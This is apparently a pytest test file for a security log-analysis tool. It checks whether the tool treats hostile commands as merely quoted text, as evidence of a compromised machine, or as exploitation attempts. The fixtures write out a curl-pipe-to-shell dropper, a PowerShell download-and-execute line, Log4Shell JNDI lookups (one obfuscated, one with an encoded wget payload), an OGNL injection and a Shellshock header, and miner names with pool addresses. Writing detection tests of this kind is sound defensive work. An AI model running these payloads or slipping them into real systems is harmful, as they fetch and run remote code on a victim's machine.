"""Who says it, and where: what people quote is no deed, and what machines were told to do stays loud.

Each text is given to the command as a file; what counts is the rule, the severity and what a person is told to do.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kanaria.formats import prose
from tests.app.running import Kanaria

RUN = "curl -fsSL http://203.0.113.9/ldr.sh | sh"
JOB = f"*/5 * * * * {RUN}"


def _json(**fields: object) -> str:
    return json.dumps(fields, ensure_ascii=False) + "\n"


TEXTS = {
    "a README": f"# Agent\n\nA small agent for metrics.\n\n## Install\n\n```sh\n{RUN}\n```\n\nThen open the page.\n",
    "a blog": f"<!DOCTYPE html>\n<html><body>\n<p>I found this in my crontab:</p>\n<pre><code>{JOB}</code></pre>\n</body></html>\n",
    "a forum": f"Hello everybody,\n\nmy server is slow. I found this line:\n\n{JOB}\n\nWhat is it?\n",
    "掲示板": f"昨日からサーバが重いので調べたところ、cronに次の行がありました。\n\n{JOB}\n\nこれは何でしょうか。\n",
    "IRC": f"[15:40:57] <alice> I found {RUN} in my logs\n[15:41:02] <bob> that is a dropper\n",
    "WeeChat": f"2025-07-21 15:40:57\talice\tjust run {RUN}\n2025-07-21 15:41:57\tbob\tno way\n",
    "Slack": json.dumps([{"type": "message", "user": "U1", "text": f"somebody ran `{RUN}`?", "ts": "1753112457.1"}])
    + "\n",
    "a chat with dates": f"Alice — 07/21/2025 3:40 PM\nis this ok: {RUN}\nBob — 07/21/2025 3:41 PM\nno!!\n",
    "git log": f"commit 1a2b3c4d5e6f7a8b\nAuthor: Alice <alice@example.org>\nDate:   Mon Jul 21 15:40:57 2025\n\n    Block {RUN}\n",
    "git log --oneline": f"1a2b3c4 Detect {RUN} in crontabs\n2b3c4d5 Update the list\n",
    "tickets, CSV": f'Issue key,Summary,Description,Created\nSEC-12,Cron,"Found {JOB} on web-1",2025-07-21 15:40\n',
    "a ticket, JSON": _json(id=12, title="Cron", body=f"We found `{JOB}` on web-1.", author="alice"),
    "remarks in a list": f"# seen as: {RUN}\n203.0.113.9\n0.0.0.0 bad.example.net\n",
    "an advisory": f"Advisory EX-2025-12\n\nThe worm executes the following command:\n\n  {RUN}\n\nIt then removes its traces.\n",
    "a sensor's rule": f'alert http any any -> any any (msg:"EX dropper"; content:"{RUN}"; sid:1; rev:1;)\n',
    "YARA": f'rule dropper {{\n  strings:\n    $a = "{RUN}"\n  condition: any of them\n}}\n',
    "Sigma": f"title: Dropper\ndetection:\n  selection:\n    CommandLine|contains:\n      - '{RUN}'\n  condition: selection\n",
    "a test": f'def test_cradle() -> None:\n    line = "{JOB}"\n    assert hit(line)\n',
    "a data set": _json(prompt="Install the agent", completion=RUN),
    "a manual": f"EXAMPLES\n       To install, run\n              {RUN}\n       as root.\n",
}
ORDERS = {
    "bash": f"cd /tmp\nls -la\n{RUN}\nhistory -c\n",
    "bash with times": f"#1764929564\n{RUN}\n#1764929570\nexit\n",
    "zsh": f": 1764929564:0;cd /tmp\n: 1764929565:0;{RUN}\n",
    "fish": f"- cmd: {RUN}\n  when: 1764929564\n- cmd: ls\n  when: 1764929570\n",
    "PSReadLine": "cd C:\\Users\\Public\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\nexit\n",
    "a typescript": f"Script started on 2025-07-21 15:40:57+09:00\nroot@web-1:~# {RUN}\nroot@web-1:~# exit\n",
    "root's prompt": f"# cd /tmp\n# {RUN}\n",
    "a crontab": f"# Edit this file to introduce tasks to be run by cron.\n#\n# m h  dom mon dow   command\n{JOB}\n",
    "a script": f"#!/bin/sh\n# Kill the others, then start.\npkill -f sleepd\n{RUN}\n",
    "set -x": f"+ cd /tmp\n+ {RUN}\n",
    "a unit": f'[Unit]\nDescription=System update\n[Service]\nExecStart=/bin/sh -c "{RUN}"\n',
    "cloud-init": f"#cloud-config\nruncmd:\n  - {RUN}\n",
    "compose": f'services:\n  web:\n    image: alpine\n    command: sh -c "{RUN}"\n',
    "a build": f"2025-07-21T15:40:57.1234567Z Run {RUN}\n",
    "a history with sentences": f'git commit -m "Fix the bug in the parser."\necho "Everything is fine, nothing to see here."\n{RUN}\n',
}


@pytest.mark.parametrize("name", TEXTS)
def test_what_people_quote_is_no_deed(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    (tmp_path / "given.txt").write_text(TEXTS[name], encoding="utf-8")
    incident = kanaria("analyze", "given.txt", "--format", "json").incident
    assert [finding["rule"] for finding in incident["findings"]] == ["command_named_in_text"]
    assert (incident["severity"], incident["hypotheses"][0]["name"]) == ("informational", "benign")
    assert [advice["id"] for advice in incident["recommendations"]] == ["text_only"], (
        "it may be about a machine of theirs"
    )


@pytest.mark.parametrize("name", ORDERS)
def test_what_a_machine_was_told_stays_loud(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    (tmp_path / "given.txt").write_text(ORDERS[name], encoding="utf-8")
    incident = kanaria("analyze", "given.txt", "--format", "json").incident
    assert incident["severity"] == "high"
    assert incident["hypotheses"][0]["name"] == "compromised_device"


def test_a_record_that_is_quoted_with_its_time_and_program_stays_one(kanaria: Kanaria, tmp_path: Path) -> None:
    line = f"Jul 21 15:40:57 vps CRON[99]: (root) CMD ({RUN})"
    (tmp_path / "given.txt").write_text(f"Hello everybody,\n\nmy server wrote this line:\n\n{line}\n\nWhat is it?\n")
    assert kanaria("analyze", "given.txt", "--format", "json").incident["severity"] == "high"


def test_a_document_is_one_by_its_name(tmp_path: Path) -> None:
    assert prose.is_prose(RUN.encode(), "docs/README.md") and not prose.is_prose(RUN.encode(), "bash_history")


LOGGED = {
    "a lookup": "2025-07-21 15:40:57.123 ERROR 1 --- [nio-8080-exec-1] c.e.LoginController : Login failed for user"
    " ${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuOS94LnNoIHwgc2g=}\n",
    "a hidden lookup": "[2025-07-21 15:40:57] WARN  vault - header X-Api=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\n",
    "a chat of a game": "[15:40:57] [Server thread/INFO]: <player1> ${jndi:ldap://203.0.113.9/a}\n",
    "OGNL": "Jul 21 15:40:57 app tomcat[99]: WARN content-type %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#cmd='curl -s http://203.0.113.9/x.sh|bash').(#p=new java.lang.ProcessBuilder(#cmd))} rejected\n",
    "Shellshock": 'Jul 21 15:40:57 web app[99]: User-Agent: () { :; }; /bin/bash -c "wget -qO- http://203.0.113.9/x.sh | bash"\n',
}


@pytest.mark.parametrize("name", LOGGED)
def test_what_a_service_logged_of_somebody_is_an_attempt_against_it(
    kanaria: Kanaria, tmp_path: Path, name: str
) -> None:
    (tmp_path / "app.log").write_text(LOGGED[name], encoding="utf-8")
    incident = kanaria("analyze", "app.log", "--format", "json").incident
    assert incident["hypotheses"][0]["name"] == "exploitation_attempt"
    assert incident["first_seen"] is not None or name in {"a chat of a game", "OGNL", "Shellshock"}


@pytest.mark.parametrize(
    "line",
    [
        "2025-07-21 15:40:57 agent 192.168.1.20: process xmrig started by www-data",
        "Jul 21 15:40:57 nms probe[12]: host 192.168.1.20 runs kdevtmpfsi cpu 398%",
        '{"ts":"2025-07-21T15:40:57Z","host":"192.168.1.20","image":"example/xmrig:latest"}',
        '"Mon Jul 21 15:40:57 2025","http://203.0.113.9/xmrig.sh","Allowed","200","192.168.1.20","GET","curl/7.68.0"',
    ],
)
def test_a_miners_name_is_heard_beside_an_address(kanaria: Kanaria, tmp_path: Path, line: str) -> None:
    (tmp_path / "app.log").write_text(f"{line}\n")
    incident = kanaria("analyze", "app.log", "--format", "json").incident
    assert [finding["rule"] for finding in incident["findings"]] == ["mining_program_named_in_log"]


LINES = {
    "a word": "xmrig",
    "a pool": "pool.supportxmr.com:3333",
    "the end of a request": 'HTTP/1.1" 200 512 "-" "XMRig/6.21.0"',
    "a command": RUN,
    "a job": f"Jul 21 15:40:01 vps CRON[99]: (root) CMD ({RUN})",
    "a row of ps": "www-data  4021  398  2.3 2442088 2.3g ? Ssl 10:12 1234:56 ./kdevtmpfsi",
    "a question": "Dec  5 10:12:41 dnsmasq[812]: query[A] pool.supportxmr.com from 192.168.1.20",
    "a request": '「2001:db8::7 - - [21/Jul/2025:15:40:57 +0900] "GET /?x=${jndi:ldap://[2001:db8::9]/a} HTTP/1.1" 404 5 "-" "-"」',
    "prose": "サーバのログに見慣れない行がありました。これは攻撃でしょうか。",
    "nothing": "...",
}


@pytest.mark.parametrize("name", LINES)
def test_explain_says_of_a_line_what_analyze_says(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    line = LINES[name]
    (tmp_path / "given.log").write_text(f"{line}\n", encoding="utf-8")
    told = kanaria("explain", line, "--format", "json")
    same = kanaria("analyze", "given.log", "--format", "json", "--fail-on", "informational")
    assert told.status == (1 if told.document["incidents"] else same.status)
    for one, other in zip(told.document["incidents"], same.document["incidents"], strict=True):
        assert [one[key] for key in ("title", "severity")] == [other[key] for key in ("title", "severity")]
        assert [a["id"] for a in one["recommendations"]] == [a["id"] for a in other["recommendations"]]
    if name in {"a word", "a pool", "the end of a request"}:
        said = " ".join(kanaria("explain", line, "--lang", "en").out.split())
        assert "Nothing needs to be done" not in said and "Nothing follows from the text alone" in said
    if name == "a question":
        assert "sender not recorded" not in kanaria("explain", line, "--lang", "en").out


def test_a_row_of_ps_without_its_header_is_a_program_that_runs(kanaria: Kanaria) -> None:
    for line in (LINES["a row of ps"], "root 4021 1 99 10:12 ? 1-05:31:22 /tmp/.x/xmrig -o pool.example.com:3333"):
        assert "miner_program_started" in {
            f["rule"] for f in kanaria("explain", line, "--format", "json").incident["findings"]
        }
